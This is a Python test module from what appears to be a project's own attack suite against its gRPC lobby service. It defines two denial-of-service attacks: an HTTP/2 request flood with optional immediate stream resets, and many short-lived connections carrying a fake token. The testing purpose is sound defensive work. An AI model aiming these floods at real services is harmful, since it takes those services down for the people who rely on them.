"""Strangers without a token, on sockets of their own: calls faster than anybody reads the replies."""

import asyncio
from typing import Any

from tests.attack.attack import Target, again_and_again, together
from tests.attack.http2 import message, request_block, reset, whole_call
from tests.attack.raw_connections import connected
from tests.attack.stage import Stage

LIST_GAMES = "/tilth.v1.LobbyService/ListGames"
EMPTY = message(b"")
AT_ONCE = 256
"""Calls in one write."""


class Flood:
    """One connection with calls of ListGames, as fast as it takes them; or each taken back at once."""

    is_raw = True

    def __init__(self, name: str, *, takes_back: bool) -> None:
        self.name = name
        self.finding = "D1"
        self._takes_back = takes_back
        self._block = request_block(LIST_GAMES)

    async def prepare(self, stage: Stage) -> dict[str, Any]:
        return {}

    async def run(self, target: Target) -> None:
        await again_and_again(lambda: self._flood(target))

    async def _flood(self, target: Target) -> None:
        async with connected(target) as connection:
            while not connection.closed.is_set():
                await connection.may_send(AT_ONCE * len(EMPTY))
                await connection.send(b"".join(self._call(connection.next_stream()) for _ in range(AT_ONCE)))
                target.seen["calls"] += AT_ONCE

    def _call(self, stream: int) -> bytes:
        call = whole_call(stream, self._block, EMPTY)
        return call + reset(stream) if self._takes_back else call


class ManyConnections:
    """Connections without end: each makes a few calls with a token that nobody holds, and leaves.

    They are as many as the firewall in docs/guides lets through from one address; gRPC limits none.
    """

    name = "many-connections"
    finding = "D1"
    is_raw = True
    at_once = 50
    pause = 1.0
    """Seconds from one connection to the next, of each of those."""
    calls = 5

    async def prepare(self, stage: Stage) -> dict[str, Any]:
        return {}

    async def run(self, target: Target) -> None:
        await together(self.at_once, lambda _: again_and_again(lambda: self._visit(target)))

    async def _visit(self, target: Target) -> None:
        block = request_block(LIST_GAMES, "nobody's token")
        async with connected(target) as connection:
            for _ in range(self.calls):
                await connection.send(whole_call(connection.next_stream(), block, EMPTY))
                target.seen["calls"] += 1
            await asyncio.sleep(self.pause)
